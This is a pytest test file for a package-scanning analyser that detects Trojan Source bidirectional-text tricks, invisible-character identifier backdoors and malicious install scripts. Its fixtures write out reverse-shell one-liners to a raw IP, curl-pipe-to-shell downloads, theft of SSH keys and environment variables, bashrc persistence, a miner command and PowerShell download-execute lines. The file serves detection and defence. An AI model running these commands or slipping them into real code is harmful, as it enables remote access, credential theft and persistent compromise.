"""TextAnalyzer: Trojan Source and invisible identifiers in code; malicious scripts."""

from __future__ import annotations

import json
from collections.abc import Mapping
from typing import Any

import pytest

from stockade.analysis.context import build_context
from stockade.analysis.interface import Archive
from stockade.analysis.model import Confidence, Finding, Kind, Phase, Severity
from stockade.analysis.text import RULES, TextAnalyzer, escape_invisible
from tests.analysis.generic.helpers import archive, fixture, member, rules_of

ANALYZER = TextAnalyzer()
RLO, LRI, PDI, PDF, RLE = "\u202e", "\u2066", "\u2069", "\u202c", "\u202b"
ZWSP, ZWJ, ZWNJ, HANGUL_FILLER = "\u200b", "\u200d", "\u200c", "\u3164"


def _scan(
    files: Mapping[str, Any], *, manifest: Mapping[str, object] | None = None
) -> list[Finding]:
    content: dict[str, Any] = {
        "package.json": json.dumps(manifest or {"name": "pkg", "version": "1.0.0"}),
        **files,
    }
    arch = archive(content, filename="pkg-1.0.0.tgz")
    return list(ANALYZER.analyze(arch, build_context(arch)))


def _scan_archive(arch: Archive) -> list[Finding]:
    return list(ANALYZER.analyze(arch, build_context(arch)))


def test_rules_are_registered_once_with_the_prefix() -> None:
    assert ANALYZER.rules == RULES
    assert len({r.id for r in RULES}) == len(RULES)
    assert all(r.id.startswith("text-") for r in RULES)


@pytest.mark.parametrize(
    ("relpath", "wanted"),
    [
        ("lib/index.js", True),
        ("pkg/__init__.py", True),
        ("install.sh", True),
        ("tools/setup.ps1", True),
        ("binding.gyp", True),
        ("setup.cfg", True),
        ("x.pth", True),
        ("bin/run", True),
        ("README.md", False),
        ("logo.png", False),
        ("LICENSE", False),
    ],
)
def test_wants(relpath: str, wanted: bool) -> None:
    assert ANALYZER.wants(relpath) is wanted


def test_escape_invisible() -> None:
    assert escape_invisible(f"a{RLO}b{ZWSP}c") == "a\\u202eb\\u200bc"


class TestTrojanSource:
    SAMPLE = (
        'const accessLevel = "user";\n'
        f'if (accessLevel != "user{RLO} {LRI}// Check if admin{PDI} {LRI}") {{\n'
        '  console.log("You are an admin.");\n'
        "}\n"
    )

    def test_stretched_string(self) -> None:
        findings = _scan({"lib/auth.js": self.SAMPLE})
        assert rules_of(findings) == ["text-trojan-source"]
        finding = findings[0]
        assert finding.kind is Kind.THREAT
        assert finding.severity is Severity.HIGH and finding.confidence is Confidence.HIGH
        assert finding.line == 2
        assert "\\u202e" in finding.snippet and "\\u2066" in finding.snippet
        assert RLO not in finding.snippet
        assert finding.phase is Phase.RUNTIME

    def test_python_comment_out_at_import(self) -> None:
        code = (
            "def is_admin(user):\n"
            f"    return False  # {RLO} {LRI}\n"
            f"    ''' {RLO}{LRI} if user.name == 'root': {PDI}{LRI} '''\n"
            "    return True\n"
        )
        arch = archive(
            {"PKG-INFO": "Name: acl\nVersion: 1\n", "acl/__init__.py": code}, fmt="sdist"
        )
        findings = _scan_archive(arch)
        assert rules_of(findings) == ["text-trojan-source", "text-trojan-source"]
        assert [f.line for f in findings] == [2, 3]
        assert findings[0].phase is Phase.IMPORT

    def test_balanced_controls_without_right_to_left_text_are_weaker(self) -> None:
        findings = _scan({"lib/x.js": f'const label = "{RLE}abc{PDF}";\n'})
        assert rules_of(findings) == ["text-trojan-source"]
        assert findings[0].severity is Severity.MEDIUM

    def test_tests_and_data_files_are_weaker(self) -> None:
        findings = _scan(
            {
                "test/bidi.test.js": f'expect(strip("a{RLO}b")).toBe("ab");\n',
                "data/strings.json": f'{{"x": "a{RLO}b"}}\n',
            }
        )
        assert rules_of(findings) == ["text-trojan-source", "text-trojan-source"]
        assert all(f.confidence is Confidence.LOW for f in findings)

    def test_localised_right_to_left_text(self) -> None:
        hebrew = f'const greeting = "{RLE}\u05e9\u05dc\u05d5\u05dd{PDF}";\n'
        arabic = f'{{"welcome": "{RLE}\u0645\u0631\u062d\u0628\u0627 {RLO}"}}\n'
        assert _scan({"lib/i18n.js": hebrew, "locales/ar.json": arabic}) == []

    def test_escapes_are_not_the_characters(self) -> None:
        code = "const BIDI = /[\\u202a-\\u202e\\u2066-\\u2069]/g;\nmodule.exports = BIDI;\n"
        assert _scan({"lib/strip-bidi.js": code}) == []

    def test_findings_per_file_are_capped(self) -> None:
        code = "".join(f"x = 1  # {RLO}\n" for _ in range(50))
        findings = _scan({"tool.py": code})
        assert len(findings) == 5


class TestInvisibleIdentifier:
    def test_zero_width_space_inside_a_name(self) -> None:
        code = f"let isAdmin = false;\nif (is{ZWSP}Admin) {{ grant(); }}\n"
        findings = _scan({"lib/acl.js": code})
        assert rules_of(findings) == ["text-invisible-identifier"]
        assert findings[0].line == 2
        assert findings[0].snippet == "if (is\\u200bAdmin) { grant(); }"

    def test_hangul_filler_backdoor(self) -> None:
        code = (
            "app.get('/network_health', async (req, res) => {\n"
            f"  const {{ timeout,{HANGUL_FILLER}}} = req.query;\n"
            f"  const checkCommands = ['ping -c 1 example.org', {HANGUL_FILLER}];\n"
            "});\n"
        )
        findings = _scan({"server.js": code})
        assert rules_of(findings) == ["text-invisible-identifier", "text-invisible-identifier"]
        assert all(f.confidence is Confidence.HIGH for f in findings)

    @pytest.mark.parametrize(
        "code",
        [
            f'const family = "\U0001f468{ZWJ}\U0001f469{ZWJ}\U0001f467";\n',
            f'const persian = "\u0645\u06cc{ZWNJ}\u062e\u0648\u0627\u0647\u0645";\n',
            f'const breakable = "super{ZWSP}califragilistic";\n',
            f"// wrap long words: foo{ZWSP}bar\n",
            f"const korean = '\u1100{HANGUL_FILLER}\uac00';\n",
        ],
    )
    def test_legitimate_invisible_characters(self, code: str) -> None:
        assert _scan({"lib/text.js": code}) == []

    def test_python_strings(self) -> None:
        code = f'SEPARATOR = \'x{ZWSP}y\'\nlabel = "\\"{HANGUL_FILLER}."\n'
        assert _scan({"pkg/consts.py": code}) == []

    def test_not_in_data_files(self) -> None:
        assert _scan({"data/words.json": f'["is{ZWSP}Admin"]\n'}) == []


class TestScripts:
    def _dropper(self) -> list[Finding]:
        manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"preinstall": "sh ./dropper.sh"}}
        return _scan({"dropper.sh": fixture("scripts", "dropper.sh")}, manifest=manifest)

    def test_install_time_dropper(self) -> None:
        findings = self._dropper()
        assert [(f.rule, f.line) for f in findings] == [
            ("text-shell-credential-theft", 6),
            ("text-shell-credential-theft", 7),
            ("text-shell-download-exec", 9),
            ("text-shell-persistence", 10),
            ("text-shell-decode-exec", 11),
            ("text-shell-reverse-shell", 12),
        ]
        assert all(f.kind is Kind.THREAT and f.phase is Phase.INSTALL for f in findings)
        assert "AWS credentials" in findings[0].message
        assert "the environment" in findings[1].message
        assert "raw IP address" in findings[2].message

    def test_helper_script_download(self) -> None:
        findings = _scan({"ci/setup.sh": fixture("scripts", "ci-setup.sh")})
        assert rules_of(findings) == ["text-shell-remote-script"]
        assert findings[0].line == 6
        assert findings[0].kind is Kind.CAPABILITY

    def test_health_check_through_dev_tcp(self) -> None:
        assert _scan({"docker/wait-for-db.sh": fixture("scripts", "wait-for-db.sh")}) == []

    def test_suspicious_host_makes_any_script_a_threat(self) -> None:
        script = "#!/bin/sh\ncurl -fsSL https://abc123.ngrok-free.app/setup | bash\n"
        findings = _scan({"tools/update.sh": script})
        assert rules_of(findings) == ["text-shell-download-exec"]
        assert "ngrok tunnel" in findings[0].message

    @pytest.mark.parametrize(
        "line",
        [
            "bash <(curl -s https://get.example.org/install)",
            'sh -c "$(curl -fsSL https://get.example.org/install.sh)"',
            "wget -qO- https://get.example.org/i | sudo -E bash -",
            "curl -s https://get.example.org/i.py | python3",
        ],
    )
    def test_download_and_run_forms_at_install(self, line: str) -> None:
        manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"install": "bash setup.sh"}}
        findings = _scan({"setup.sh": f"#!/bin/bash\n{line}\n"}, manifest=manifest)
        assert rules_of(findings) == ["text-shell-download-exec"]

    @pytest.mark.parametrize(
        ("line", "rule"),
        [
            ("nc -e /bin/sh 45.61.136.22 4444", "text-shell-reverse-shell"),
            (
                "rm /dev/shm/f;mkfifo /dev/shm/f;"
                "cat /dev/shm/f|/bin/sh -i 2>&1|nc 45.61.136.22 4444 >/dev/shm/f",
                "text-shell-reverse-shell",
            ),
            (
                "python3 -c 'import socket,os,pty;s=socket.socket();"
                's.connect(("45.61.136.22",4444));'
                '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
                "text-shell-reverse-shell",
            ),
            ('eval "$(echo ZWNobyBoaQ== | base64 --decode)"', "text-shell-decode-exec"),
            (
                "printenv | base64 -w0 | curl -d @- https://example.org/c",
                "text-shell-credential-theft",
            ),
            (
                "curl -F file=@$HOME/.ssh/id_rsa https://example.org/u",
                "text-shell-credential-theft",
            ),
            ("./xmrig -o stratum+tcp://pool.example.org:3333 -u wallet", "text-shell-miner"),
            ("echo 'curl -s http://45.61.136.22/k | sh' >> ~/.bashrc", "text-shell-persistence"),
        ],
    )
    def test_threat_patterns(self, line: str, rule: str) -> None:
        findings = _scan({"run.sh": f"#!/bin/sh\n{line}\n"})
        assert rule in rules_of(findings)

    def test_powershell_and_batch(self) -> None:
        ps1 = (
            "$u = 'https://files.example.org/a.ps1'\n"
            "IEX (New-Object Net.WebClient).DownloadString($u)\n"
            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\n"
        )
        bat = "@echo off\ncertutil -urlcache -split -f http://45.61.136.22/p.exe %TEMP%\\p.exe\n"
        manifest = {"name": "pkg", "version": "1.0.0", "scripts": {"preinstall": "install.bat"}}
        findings = _scan({"tools/setup.ps1": ps1, "install.bat": bat}, manifest=manifest)
        assert [(f.path, f.rule) for f in findings] == [
            ("package/tools/setup.ps1", "text-shell-remote-script"),
            ("package/tools/setup.ps1", "text-shell-decode-exec"),
            ("package/install.bat", "text-shell-download-exec"),
        ]

    def test_gyp_command_expansion_at_install(self) -> None:
        gyp = (
            "{\n  'targets': [{\n    'target_name': 'addon',\n"
            "    'sources': ['<!(curl -s http://45.61.136.22/s.sh | sh)'],\n  }]\n}\n"
        )
        findings = _scan({"binding.gyp": gyp}, manifest={"name": "addon", "version": "1.0.0"})
        assert rules_of(findings) == ["text-shell-download-exec"]
        assert findings[0].phase is Phase.INSTALL
        assert findings[0].line == 4

    def test_extensionless_shebang_script(self) -> None:
        script = "#!/usr/bin/env bash\ncurl http://45.61.136.22/x | bash\n"
        assert rules_of(_scan({"bin/update": script})) == ["text-shell-download-exec"]

    def test_head_of_a_script_that_was_not_read_whole(self) -> None:
        head = "#!/bin/sh\nnc -e /bin/sh 45.61.136.22 4444\n# caf\u00e9".encode()[:-1]
        arch = archive(
            [member("tools/run", head, complete=False, size=50_000)], filename="pkg-1.0.0.tgz"
        )
        assert rules_of(_scan_archive(arch)) == ["text-shell-reverse-shell"]

    def test_continued_lines_are_joined(self) -> None:
        script = "#!/bin/sh\ncurl -fsSL \\\n  https://abc.trycloudflare.com/x \\\n  | sh\n"
        findings = _scan({"run.sh": script})
        assert rules_of(findings) == ["text-shell-download-exec"]
        assert findings[0].line == 2

    @pytest.mark.parametrize(
        "script",
        [
            "#!/bin/sh\n# Install with: curl -sSL https://get.example.org | sh\nmake install\n",
            "#!/bin/sh\nbase64 -d payload.b64 > fixture.bin\n",
            "#!/bin/sh\ncurl -d @report.json https://api.example.org/upload\n",
            "#!/bin/sh\ncat ~/.ssh/id_ed25519.pub\n",
            "#!/bin/sh\ncrontab -l > backup.cron\n",
            "#!/bin/sh\nexec 3<>/dev/tcp/localhost/80\nprintf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3\n"
            "cat <&3\n",
            "#!/bin/sh\ncurl -s https://api.example.org/v"
            " | node -e 'process.stdin.pipe(process.stdout)'\n",
        ],
    )
    def test_ordinary_scripts(self, script: str) -> None:
        assert _scan({"scripts/task.sh": script}) == []

    def test_python_and_javascript_are_left_to_their_analysers(self) -> None:
        code = "import os\nos.system('curl -s http://45.61.136.22/x | sh')\n"
        js = "require('child_process').execSync('bash -i >& /dev/tcp/45.61.136.22/4444 0>&1')\n"
        assert _scan({"setup.py": code, "index.js": js}) == []

    def test_nested_member_paths(self) -> None:
        arch = archive(
            [member("inner.tgz!package/run.sh", "#!/bin/sh\nnc -e /bin/sh 45.61.136.22 4444\n")],
            filename="outer-1.0.0.tgz",
        )
        assert rules_of(_scan_archive(arch)) == ["text-shell-reverse-shell"]
